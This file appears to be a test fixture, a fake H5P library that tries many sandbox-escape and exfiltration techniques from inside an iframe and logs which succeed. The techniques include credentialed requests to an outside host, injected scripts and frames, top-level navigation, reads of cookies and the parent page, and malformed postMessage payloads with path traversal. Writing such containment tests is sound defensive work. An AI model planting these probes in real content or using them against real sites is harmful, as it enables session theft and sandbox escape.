// A library that tries every harm there is. `params` is filled in by the test.
var H5P = H5P || {};
window.tried = [];
function attempt(name, act) {
  try {
    var got = act();
    window.tried.push(name);
    if (got && got.then) got.then(function (found) {
      window.tried.push(name + ': reached ' + (found && found.status)); }, function () {});
  } catch (error) { window.tried.push(name + ': ' + error.name); }
}
H5P.Hostile = function () {
  H5P.EventDispatcher.call(this);
  this.attach = function ($container) {
    $container.text('At work');
    var site = location.protocol + '//' + location.host;
    [site + '/learn/', site + '/harm/fetch/', params.elsewhere + '/harm/fetch/'].forEach(function (url) {
      attempt('fetch', function () { return fetch(url, {credentials: 'include', mode: 'no-cors'}); });
      attempt('post', function () { return fetch(url, {method: 'POST', credentials: 'include', body: 'x=1',
        mode: 'no-cors'}); });
      attempt('xhr', function () { var x = new XMLHttpRequest(); x.withCredentials = true; x.open('GET', url);
        x.send(); });
      attempt('beacon', function () { navigator.sendBeacon(url, 'x=1'); });
      attempt('socket', function () { new WebSocket(url.replace('http', 'ws')); });
      attempt('events', function () { new EventSource(url); });
      attempt('image', function () { new Image().src = url + '?image'; });
      attempt('script', function () { var s = document.createElement('script'); s.src = url; document.body.append(s); });
      attempt('style', function () { var s = document.createElement('link'); s.rel = 'stylesheet'; s.href = url;
        document.head.append(s); });
      attempt('prefetch', function () { var s = document.createElement('link'); s.rel = 'prefetch'; s.href = url;
        document.head.append(s); });
      attempt('frame', function () { var f = document.createElement('iframe'); f.src = url; document.body.append(f); });
      attempt('object', function () { var o = document.createElement('object'); o.data = url; document.body.append(o); });
      attempt('form', function () { var f = document.createElement('form'); f.method = 'POST'; f.action = url;
        document.body.append(f); f.submit(); });
      attempt('form to the top', function () { var f = document.createElement('form'); f.target = '_top'; f.action = url;
        document.body.append(f); f.submit(); });
      attempt('popup', function () { window.open(url); });
      attempt('link', function () { var a = document.createElement('a'); a.href = url; a.target = '_top';
        document.body.append(a); a.click(); });
      attempt('worker', function () { new Worker(url); });
      attempt('service worker', function () { return navigator.serviceWorker.register(url); });
      attempt('top navigation', function () { window.top.location = url; });
      attempt('parent navigation', function () { window.parent.location.href = url; });
    });
    attempt('storage', function () { localStorage.setItem('a', '1'); });
    attempt('cookie', function () { document.cookie = 'harm=1'; window.cookies = document.cookie; });
    attempt('database', function () { indexedDB.open('x'); });
    attempt('parent page', function () { window.seen = window.parent.document.body.innerHTML; });
    attempt('frame element', function () { window.seen = window.frameElement.outerHTML; });
    attempt('parent script', function () { window.parent.harmed = 1; });
    attempt('dialog', function () { alert(1); });
    attempt('messages', function () {
      for (var n = 0; n < 5; n++) {
        parent.postMessage({context: 'pathway', action: 'statement', statement: {verb: {id: 'x'.repeat(9000)}}}, '*');
        parent.postMessage({context: 'pathway', action: 'state', type: '../../x', data: {}}, '*');
        parent.postMessage({context: 'pathway', action: 'constructor'}, '*');
        parent.postMessage({context: 'h5p', action: 'resize', scrollHeight: 1e12}, '*');
        parent.postMessage(null, '*');
      }
    });
    [site + '/h5p/play/x/', params.svg, params.page].forEach(function (url) {
      attempt('own file in a popup', function () { window.open(url); });
    });
    // It leaves only when it is told to, and where to: nothing more can be asked of it then.
    window.leave = function (away) {
      var to = away ? params.elsewhere + '/harm/away/' : site + '/learn/?from-frame';
      setTimeout(function () { location.href = to; }, 0);
    };
    window.done = true;
  };
};
H5P.Hostile.prototype = Object.create(H5P.EventDispatcher.prototype);
var params = {};
